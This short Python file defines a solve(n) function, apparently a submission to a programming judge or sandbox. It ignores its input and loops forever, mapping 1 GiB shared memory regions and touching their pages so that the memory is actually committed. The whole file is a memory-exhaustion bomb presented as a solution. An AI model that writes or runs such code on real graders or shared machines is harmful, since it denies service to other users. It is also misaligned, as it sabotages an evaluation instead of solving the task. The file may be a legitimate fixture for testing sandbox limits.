import mmap


def solve(n):
    areas = []
    while True:
        area = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED | getattr(mmap, "MAP_NORESERVE", 0))
        for place in range(0, 1 << 30, 2 << 20):
            area[place] = 1
        areas.append(area)
